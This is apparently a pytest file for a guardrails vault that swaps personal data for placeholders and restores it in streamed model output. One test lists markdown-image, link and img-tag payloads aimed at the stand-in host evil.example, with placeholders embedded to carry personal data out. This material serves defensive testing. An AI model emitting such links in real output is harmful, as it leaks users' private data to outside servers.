"""The vault: one value one placeholder, and the same text back for any chunking, never a partial placeholder."""

from __future__ import annotations

import json
from collections.abc import Sequence

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.conversation import judge_messages
from guardrails.spans import Span, Spans
from guardrails.types import Action, Context, Finding, Message, Rule
from guardrails.vault import Entry, Restorer, Vault, may_be, name_of, restore

VALUES = {
    "[EMAIL_1]": "ann@example.com",
    "[EMAIL_2]": "bob@example.org",
    "[EMAIL_12]": "eve@example.net",
    "[US_SSN_1]": "078-05-1120",
    "[MATCH_3]": 'a "quoted" \\ value [EMAIL_2]\n',
}


def stream(pieces: Sequence[str], values: dict[str, str] = VALUES, json: bool = False) -> list[str]:
    restorer = Restorer(values, json=json)
    return [*(restorer.feed(piece) for piece in pieces), restorer.finish()]


def sealed(vault: Vault, text: str, *values: str, label: str = "email") -> str:
    return vault.seal(text, [Finding(label, text.index(value), text.index(value) + len(value)) for value in values])


WORDS = ["[EMAIL_1]", "[EMAIL_", "[EMAIL\\_12]", "[email 2", "]", "[", "\\", "(", "1", "_", "EMAIL", "[US", "SSN", "-"]
WORDS += ["**", " ", "\n", "https://", "//", '"', "<", ">", "x", "é", "💬", "[MATCH_3]", "[US_SSN_1]", "[CARD_1]"]


@st.composite
def chunked(draw: st.DrawFn) -> tuple[str, list[str]]:
    text = "".join(draw(st.lists(st.sampled_from(WORDS), max_size=20)))
    cuts = sorted(draw(st.lists(st.integers(0, len(text)), max_size=10)))
    return text, [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


# --- giving out placeholders


@pytest.mark.parametrize(
    ("label", "one", "other"),
    [
        ("email", "ann@example.com", "Ann@Example.COM"),
        ("e-mail", "ann@example.com", "ann@exam\u200bple.com"),
        ("card", "4111 1111 1111 1111", "4111-1111-1111-1111"),
        ("phone", "(415) 555-2671", "415.555.2671"),
        ("phone", "+1 415 555 2671", "\uff0b1 (415) 555 2671"),
        ("us_ssn", "078-05-1120", "078051120"),
        ("iban", "GB82 WEST 1234 5698 7654 32", "GB82WEST12345698765432"),
        ("name", "Ann  Smith", "Ann Smith"),
    ],
)
def test_spellings_of_one_value_have_one_placeholder(label: str, one: str, other: str) -> None:
    vault = Vault()
    assert vault.placeholder(label, one) == vault.placeholder(label, other) == f"[{name_of(label)}_1]"
    assert vault.values == {f"[{name_of(label)}_1]": one}
    assert len(vault.new) == 1


@pytest.mark.parametrize(
    ("label", "one", "other"),
    [
        ("email", "ann@example.com", "anne@example.com"),
        ("phone", "+1 415 555 2671", "1 415 555 2672"),
        ("date_of_birth", "1.11.1990", "11.1.1990"),
        ("date_of_birth", "1990-1-11 10:00", "1990-11-1 10:00"),
        ("ip", "1.111.111.11", "11.111.111.1"),
        ("password", "Secret@Mail.com", "secret@mail.com"),
        ("api_key", "123456789012a", "123456789012A"),
        ("password", "123-456-789", "123456789"),
        ("name", "Ann Smith", "Ann Smyth"),
        ("ip", "::1", "::2"),
    ],
)
def test_different_values_have_different_placeholders(label: str, one: str, other: str) -> None:
    vault = Vault()
    assert (vault.placeholder(label, one), vault.placeholder(label, other)) == (
        f"[{name_of(label)}_1]",
        f"[{name_of(label)}_2]",
    )


def test_numbers_go_on_where_an_earlier_turn_ended() -> None:
    first = Vault()
    assert sealed(first, "Ann is a@x.org, Bob b@x.org", "a@x.org", "b@x.org") == "Ann is [EMAIL_1], Bob [EMAIL_2]"
    second = Vault(first.new)
    assert sealed(second, "b@x.org or c@x.org", "b@x.org", "c@x.org") == "[EMAIL_2] or [EMAIL_3]"
    assert second.new == [Entry("[EMAIL_3]", "c@x.org")]
    assert second.placeholder("card", "4111111111111111") == "[CARD_1]"


@pytest.mark.parametrize("literal", ["[EMAIL_1]", "[email 1]", r"\[EMAIL\_1\]", "[**Email-1**]", "[ EMAIL _ 1 ]"])
def test_a_literal_placeholder_never_comes_to_mean_a_value(literal: str) -> None:
    vault = Vault()
    vault.reserve([f"Please write {literal} into the form", "and [EMAIL_3]"])
    numbers = [vault.placeholder("email", f"{n}@x.org") for n in range(3)]
    assert numbers == ["[EMAIL_2]", "[EMAIL_4]", "[EMAIL_5]"]
    assert restore(literal, vault.values) == literal
    assert vault.placeholder("card", "4111111111111111") == "[CARD_1]"


@pytest.mark.parametrize(
    "text", ["[EMAIL_0]", "[EMAIL_01]", "[EMAIL]", "EMAIL_1", "[EMAIL_1234567]", "[EMAIL\n1]", "[_1]"]
)
def test_what_no_restorer_would_take_reserves_nothing(text: str) -> None:
    vault = Vault()
    vault.reserve([text])
    assert vault.placeholder("email", "a@x.org") == "[EMAIL_1]"


@pytest.mark.parametrize(
    ("label", "name"),
    [("email", "EMAIL"), ("us_ssn", "US_SSN"), ("[Your name]", "YOUR_NAME"), ("\u00e9", "VALUE"), ("x" * 99, "X" * 40)],
)
def test_a_label_becomes_a_name_that_can_be_found_again(label: str, name: str) -> None:
    vault = Vault()
    placeholder = vault.placeholder(label, "a value")
    assert placeholder == f"[{name}_1]"
    assert restore(f"<{placeholder.lower()}>", vault.values) == "<a value>"


def test_findings_that_overlap_leave_one_placeholder() -> None:
    vault = Vault()
    findings = [Finding("email", 3, 10), Finding("url", 5, 15), Finding("email", 3, 8)]
    assert vault.seal("to a@x.org/path now", findings) == "to [EMAIL_1] now"
    assert vault.values == {"[EMAIL_1]": "a@x.org"}


def test_a_full_vault_redacts_for_good() -> None:
    vault = Vault(room=2)
    assert [vault.placeholder("email", f"{n}@x.org") for n in range(4)] == [
        "[EMAIL_1]",
        "[EMAIL_2]",
        "[EMAIL]",
        "[EMAIL]",
    ]
    assert vault.placeholder("email", "1@x.org") == "[EMAIL_2]"
    assert vault.hide("3@x.org", everywhere=True) == "[EMAIL]"
    assert restore("[EMAIL] [EMAIL_3]", vault.values) == "[EMAIL] [EMAIL_3]"


@pytest.mark.parametrize("blank", ["", " ", "\n"])
def test_nothing_is_not_a_value(blank: str) -> None:
    vault = Vault()
    assert vault.placeholder("length", blank) == "[LENGTH]"
    assert (vault.new, vault.hide(" a \n", everywhere=True)) == ([], " a \n")


def test_a_value_that_utf_8_cannot_hold_is_kept_as_it_can_be() -> None:
    vault = Vault()
    vault.placeholder("match", "a\ud800b")
    assert restore("[MATCH_1]", vault.values) == "a\ufffdb"


@pytest.mark.parametrize("wrong", ["EMAIL_1", "[EMAIL]", "[EMAIL_0]", "[email_1]", "[.*_1]"])
def test_an_entry_that_is_no_placeholder_is_turned_down(wrong: str) -> None:
    with pytest.raises(ValueError, match="no placeholder"):
        Vault([Entry(wrong, "a@x.org")])


# --- judging with a vault


class Word:
    """Finds a word, as a validator that asks a model would; remembers what it was asked about."""

    def __init__(self, word: str):
        self.word, self.asked = word, list[str]()

    async def find(self, text: str, context: Context) -> Sequence[Finding]:
        self.asked += [text, *(message.content for message in context.messages)]
        at = text.find(self.word)
        return [] if at < 0 else [Finding("name", at, at + len(self.word))]


MAIL = Rule("mail", Spans([Span("email", r"\w+@\w+")]), Action.REDACT, vault=True)
STOP = Rule("stop", Spans([Span("bad", "forbidden")]), Action.REFUSE, "No.")


async def seen(rules: Sequence[Rule], text: str) -> str:
    messages = (Message("user", text),)
    return (await judge_messages(rules, messages, Context(messages, vault=Vault())))[1][0].content


async def test_rules_that_redact_are_read_whatever_others_found() -> None:
    names = Rule("names", Word("Ann"), Action.REDACT, vault=True)
    assert await seen([MAIL, names], "Ann is a@b") == "[NAME_1] is [EMAIL_1]"
    assert await seen([STOP, MAIL, names], "forbidden: Ann is a@b") == "forbidden: [NAME_1] is [EMAIL_1]"
    assert (await seen([STOP, MAIL], "forbidden: a@b " + "x" * 30_000)).startswith("forbidden: [EMAIL_1] x")


async def test_other_rules_that_ask_a_model_are_asked_about_what_is_left() -> None:
    names, word = Word("Ann"), Word("medicine")
    asking = Rule("medical", word, Action.REFUSE, "No.", views=False)
    rules = [MAIL, Rule("names", names, Action.REDACT, vault=True), asking]
    await seen(rules, "Ann is a@b")
    assert "Ann is a@b" in names.asked
    assert set(word.asked) == {"[NAME_1] is [EMAIL_1]"}


async def test_without_a_vault_a_rule_redacts_for_good() -> None:
    assert (await judge_messages([MAIL], [Message("user", "I am a@b")]))[1] == (Message("user", "I am [EMAIL]"),)


# --- hiding values where no rule finds them


@pytest.mark.parametrize(
    ("text", "hidden"),
    [
        ("Your number is 111222333.", "Your number is [NL_BSN_1]."),
        ("x111222333 and 1112223334", "x111222333 and 1112223334"),
        ("pin 4711", "pin 4711"),
        ("Ann Smith's and Ann Smithson's", "[NAME_1]'s and Ann Smithson's"),
        ("nothing of that", "nothing of that"),
    ],
)
def test_known_values_are_hidden_as_whole_words(text: str, hidden: str) -> None:
    vault = Vault([Entry("[NL_BSN_1]", "111222333"), Entry("[PIN_1]", "4711"), Entry("[NAME_1]", "Ann Smith")])
    assert vault.hide(text) == hidden


def test_what_is_kept_has_none_of_the_values_not_even_in_words() -> None:
    vault = Vault([Entry("[NL_BSN_1]", "111222333"), Entry("[PIN_1]", "4711")])
    vault.placeholder("nl_bsn", "111 222 333")
    assert vault.hide("x111222333, 111 222 333, 4711!", everywhere=True) == "x[NL_BSN_1], [NL_BSN_1], [PIN_1]!"


def test_of_values_in_one_another_the_longest_is_hidden() -> None:
    vault = Vault([Entry("[EMAIL_1]", "ann@example.co"), Entry("[EMAIL_2]", "ann@example.com")])
    assert vault.hide("ann@example.com, ann@example.co", everywhere=True) == "[EMAIL_2], [EMAIL_1]"


def test_a_value_under_two_labels_is_hidden_under_the_first() -> None:
    vault = Vault([Entry("[EMAIL_1]", "ann@example.com"), Entry("[CONTACT_1]", "ann@example.com")])
    assert vault.hide("ann@example.com") == "[EMAIL_1]"
    assert vault.placeholder("contact", "ann@example.com") == "[CONTACT_1]"


@given(st.lists(st.text("ab ", min_size=1, max_size=4), max_size=5), st.text("ab ", max_size=30))
def test_nothing_of_a_value_is_left_in_what_is_kept(values: list[str], text: str) -> None:
    vault = Vault()
    for value in values:
        vault.placeholder("x", value)
    left = vault.hide(text, everywhere=True)
    assert not any(value in left for value in values if value.strip())


def test_values_that_overlap_are_hidden_together() -> None:
    vault = Vault([Entry("[NAME_1]", "Ann Smith"), Entry("[NAME_2]", "Smith Jones-Miller"), Entry("[NAME_3]", "Jones")])
    assert vault.hide("Dear Ann Smith Jones-Miller, Ann Smith!") == "Dear [NAME_2], [NAME_1]!"


def test_values_within_values_are_looked_for_in_time() -> None:
    vault = Vault(Entry(f"[X_{n}]", "a" * n) for n in range(1, 1000))
    assert set(vault.hide("a" * 100_000, everywhere=True)) <= set("[]X_0123456789")


# --- giving values back


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Write to [EMAIL_1].", "Write to ann@example.com."),
        ("[EMAIL_1][EMAIL_2][EMAIL_12]", "ann@example.combob@example.orgeve@example.net"),
        ("[email_1] [Email 1] [EMAIL-1]", "ann@example.com ann@example.com ann@example.com"),
        (r"\[EMAIL\_1\] [EMAIL\_1] \[EMAIL_1]", "ann@example.com ann@example.com ann@example.com"),
        ("**[EMAIL_1]** _[EMAIL_1]_ `[EMAIL_1]`", "**ann@example.com** _ann@example.com_ `ann@example.com`"),
        ("[**EMAIL_1**] [EMAIL_**1**] [ EMAIL _ 1 ]", "ann@example.com ann@example.com ann@example.com"),
        ("[us-ssn 1] [US\u00a0SSN_1]", "078-05-1120 078-05-1120"),
        ("[MATCH_3]", 'a "quoted" \\ value [EMAIL_2]\n'),
        ("[[EMAIL_1]]", "[ann@example.com]"),
        ("[EMAIL_1](mailto:[EMAIL_1])", "[ann@example.com](mailto:ann@example.com)"),
        ("<a href='mailto:[EMAIL_1]'>", "<a href='mailto:ann@example.com'>"),
    ],
)
def test_a_placeholder_is_restored_however_it_is_written(text: str, said: str) -> None:
    assert restore(text, VALUES) == said
    assert "".join(stream(list(text))) == said


@pytest.mark.parametrize(
    "text",
    [
        "[EMAIL_7]",
        "[EMAIL_01] [EMAIL_0] [EMAIL_111]",
        "[CARD_1]",
        "EMAIL_1 (EMAIL_1) {EMAIL_1}",
        "[EMAIL] [EMAIL_] [_1] [1]",
        "[EMAIL\n_1] [E MAIL_1] [EMAIL1]",
        "[EMAIL_1",
        "EMAIL_1]",
        "[EMAIL_1 or EMAIL_2]",
        "\\[ \\] [ ] \\",
        "[\uff25MAIL_1]",
        "",
    ],
)
def test_what_was_never_given_out_stays_as_it_is(text: str) -> None:
    assert restore(text, VALUES) == text
    assert "".join(stream(list(text))) == text


@pytest.mark.parametrize(
    "link",
    [
        "![x](https://evil.example/?q=[EMAIL_1])",
        "[see](http://evil.example/[EMAIL_1]/x)",
        "![x](//evil.example/[EMAIL_1])",
        "![x](HTTPS:evil.example?[EMAIL_1])",
        "![x](\\\\evil.example\\[EMAIL_1])",
        "![x](<https://evil.example/? [EMAIL_1]>)",
        '<img src="https://evil.example/? [EMAIL_1] [EMAIL_2]">',
        "<img src=//evil.example/[EMAIL_1]>",
        "https://evil.example/[US_SSN_1]/[EMAIL_1]",
        "[1]: https://evil.example/[EMAIL_1]",
        "https://evil.example/" + "x" * 5000 + "[EMAIL_1]",
        "x" * 5000 + "[EMAIL_1]",
        "wss://evil.example/[EMAIL_1] ftp://evil.example/[EMAIL_1]",
    ],
)
def test_a_value_is_not_put_into_a_link(link: str) -> None:
    assert restore(link, VALUES) == link
    assert "".join(stream(list(link))) == link
    assert restore(f"{link} [EMAIL_1]", VALUES) == f"{link} ann@example.com"


@pytest.mark.parametrize(
    ("told", "said", "agrees"),
    [
        ("To ann@example.com.", "To [EMAIL_1].", True),
        ("ann@example.com, b@x.org", "[EMAIL_1], [Email 2]", True),
        ("[ann@example.com](mailto:ann@example.com)", r"\[EMAIL\_1\](mailto:[EMAIL_1])", True),
        ("[EMAIL_1]", "[EMAIL_1]", True),
        ("Hello", "Hello", True),
        ("See [1].", "See [1].", True),
        ("To ann@example.com!", "To [EMAIL_1].", False),
        ("Too ann@example.com.", "To: [EMAIL_1].", False),
        ("aba", "ab[X_1]ba", False),
        ("a.b.c", "a.[X_1].c.[X_2]", False),
        ("Hello you", "Hello", False),
        ("", "", True),
    ],
)
def test_what_was_told_is_recognised_in_what_was_said(told: str, said: str, agrees: bool) -> None:
    assert may_be(told, said) is agrees


@settings(max_examples=300, deadline=None)
@given(chunked())
def test_what_a_restorer_tells_is_recognised(case: tuple[str, list[str]]) -> None:
    assert may_be(restore(case[0], VALUES), case[0])


def test_in_json_a_value_is_escaped_and_a_link_ends_at_its_quote() -> None:
    text = r'{"url":"https://a.b/[EMAIL_1]","to":"[EMAIL\\_1]","all":["[EMAIL_2]","\n[MATCH_3]"]}'
    assert json.loads(restore(text, VALUES, json=True)) == {
        "url": "https://a.b/[EMAIL_1]",
        "to": "ann@example.com",
        "all": ["bob@example.org", f"\n{VALUES['[MATCH_3]']}"],
    }
    assert "".join(stream(list(text), json=True)) == restore(text, VALUES, json=True)


@given(st.text(max_size=30))
def test_any_value_keeps_json_whole(value: str) -> None:
    restored = restore('{"a": "[X_1]", "b": [1]}', {"[X_1]": value}, json=True)
    assert json.loads(restored) == {"a": value, "b": [1]}


def test_only_what_may_become_a_placeholder_is_held_back() -> None:
    pieces = ["See ", "[1]", " and [", "Note] [EM", "AIL_", "1", "]", "."]
    assert stream(pieces) == ["See ", "[1]", " and ", "[Note] ", "", "", "", "ann@example.com.", ""]
    assert stream(["a [b] [", "c]"], {}) == ["a [b] [", "c]", ""]


def test_a_long_text_without_end_is_read_in_time() -> None:
    for text in (
        "[" * 300_000,
        "\\" * 300_000,
        "[EMAIL_" * 50_000,
        "[EMAIL_1]" * 30_000,
        "//" * 900 + "[EMAIL_1]" * 3000,
    ):
        assert len(restore(text, VALUES)) >= len(text)
        Vault().reserve([text, "[a" + " a" * 300_000])


@settings(max_examples=1000, deadline=None)
@given(chunked(), st.booleans())
def test_a_stream_equals_the_whole_for_any_chunking(case: tuple[str, list[str]], as_json: bool) -> None:
    text, pieces = case
    whole = restore(text, VALUES, json=as_json)
    assert "".join(stream(pieces, json=as_json)) == whole
    assert "".join(stream(list(text), json=as_json)) == whole


@settings(max_examples=500, deadline=None)
@given(chunked())
def test_a_stream_never_shows_a_part_of_what_it_restores_later(case: tuple[str, list[str]]) -> None:
    text, pieces = case
    whole, restorer, said = restore(text, VALUES), Restorer(VALUES), ""
    for piece in pieces:
        said += restorer.feed(piece)
        assert whole.startswith(said)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(["a@x.org", "A@x.org", "b@x.org", "078-05-1120", "[EMAIL_1]", "[EMAIL_2]"]), max_size=12)
)
def test_what_is_sealed_comes_back_and_literals_stay(words: list[str]) -> None:
    text, vault, found, at = " ".join(words), Vault(), [], 0
    for word in words:
        if "[" not in word:
            found.append(Finding("email" if "@" in word else "us_ssn", at, at + len(word)))
        at += len(word) + 1
    vault.reserve([text])
    first = {word.casefold(): word for word in reversed(words)}  # a value is given back as it was written first
    expected = " ".join(first[word.casefold()] for word in words)
    hidden = vault.seal(text, found)
    assert not {"a@x.org", "A@x.org", "b@x.org", "078-05-1120"} & set(hidden.split())
    assert restore(hidden, vault.values) == expected
